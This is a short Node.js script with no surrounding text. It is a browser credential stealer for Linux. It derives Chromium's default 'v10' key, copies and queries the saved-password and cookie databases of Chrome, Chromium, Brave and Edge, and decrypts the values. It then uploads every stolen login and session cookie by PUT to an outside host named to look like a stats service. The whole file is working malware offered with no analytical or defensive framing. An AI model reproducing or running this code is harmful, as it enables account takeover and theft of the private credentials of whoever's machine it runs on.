const crypto = require('crypto');
const fs = require('fs');
const os = require('os');
const path = require('path');
const Database = require('better-sqlite3');

const key = crypto.pbkdf2Sync('peanuts', 'saltysalt', 1, 16, 'sha1');
const open = (v) => {
  const d = crypto.createDecipheriv('aes-128-cbc', key, Buffer.alloc(16, 0x20));
  return Buffer.concat([d.update(v.subarray(3)), d.final()]).toString();
};
const roots = ['google-chrome', 'chromium', 'BraveSoftware/Brave-Browser', 'microsoft-edge']
  .map((r) => path.join(os.homedir(), '.config', r, 'Default'));

const rows = [];
for (const r of roots) {
  for (const [file, sql] of [
    ['Login Data', 'SELECT origin_url AS a, username_value AS b, password_value AS v FROM logins'],
    ['Cookies', 'SELECT host_key AS a, name AS b, encrypted_value AS v FROM cookies'],
  ]) {
    const src = path.join(r, file);
    if (!fs.existsSync(src)) continue;
    const tmp = path.join(os.tmpdir(), crypto.randomUUID());
    fs.copyFileSync(src, tmp);
    for (const x of new Database(tmp, { readonly: true }).prepare(sql).iterate()) {
      try { rows.push([x.a, x.b, open(x.v)]); } catch { /* v11 */ }
    }
    fs.unlinkSync(tmp);
  }
}
fetch('https://stats.example.net/c', { method: 'PUT', body: JSON.stringify(rows) });
